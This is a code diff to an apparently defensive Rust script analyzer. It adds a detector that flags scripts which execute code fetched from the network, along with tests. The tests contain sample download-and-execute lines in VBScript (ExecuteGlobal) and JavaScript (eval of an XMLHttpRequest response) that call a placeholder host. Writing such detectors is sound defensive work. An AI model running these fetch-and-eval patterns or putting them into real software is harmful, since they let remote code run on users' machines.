@@ -17,6 +17,7 @@ pub fn judge(trace: &Trace, findings: &mut Findings) {
     network(trace, findings);
     writes(trace, findings);
     code(trace, findings);
+    fetched_code(trace, findings);
     ended(trace, findings);
 }
 
@@ -249,6 +250,23 @@ fn code(trace: &Trace, findings: &mut Findings) {
     );
 }
 
+/// Code that the network gave it, whether what came was the sandbox's own answer or one that was asked to be given.
+fn fetched_code(trace: &Trace, findings: &mut Findings) {
+    const SHORTEST: usize = 4;
+    let mark = script_host::settings::MARK.trim_ascii();
+    let answers = trace.answers.iter().map(|answer| answer.trim_ascii()).filter(|answer| answer.len() >= SHORTEST);
+    let answers: Vec<&[u8]> = answers.map(|answer| if answer.starts_with(mark) { mark } else { answer }).collect();
+    let is_fetched =
+        |text: &str| answers.iter().any(|answer| std::str::from_utf8(answer).is_ok_and(|answer| text.contains(answer)));
+    let by: Vec<&str> = trace.code.iter().filter(|code| is_fetched(&code.text)).map(|code| code.by).collect();
+    if by.is_empty() || !asked_network(trace) {
+        return;
+    }
+    let title = "The script runs code that it fetches from the network";
+    let finding = Finding::new("runs-fetched-code", Severity::High, 90, title).techniques(&["T1105", "T1059"]);
+    findings.add(quoted(finding.quotes(by), &trace.network));
+}
+
 /// Of a run that the host had to stop. `cause` is its word for it.
 pub fn stopped(cause: &str, findings: &mut Findings) {
     let detail = match cause {
@@ -349,6 +367,18 @@ mod tests {
         let found = found(script, "a.js");
         assert!(found.contains(&"copies-program Low T1036.003".to_owned()), "{found:?}");
         assert!(!found.iter().any(|it| it.starts_with("drops-program")), "{found:?}");
+    }
+
+    #[test]
+    fn code_that_the_network_answered_is_told() {
+        let ask = "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.open \"GET\", \"http://a.example/b\", False\nx.send\n";
+        let ran = found(&format!("{ask}ExecuteGlobal x.responseText"), "a.vbs");
+        assert!(ran.contains(&"runs-fetched-code High T1105,T1059".to_owned()), "{ran:?}");
+        let kept = found(&format!("{ask}t = x.responseText\nExecute \"a = 1\""), "a.vbs");
+        assert!(!kept.iter().any(|it| it.starts_with("runs-fetched-code")), "{kept:?}");
+        let script =
+            "var x = new XMLHttpRequest(); x.open('GET', 'http://a.example/b', false); x.send(); eval(x.responseText);";
+        assert!(found(script, "a.js").contains(&"runs-fetched-code High T1105,T1059".to_owned()));
     }
 
     #[test]
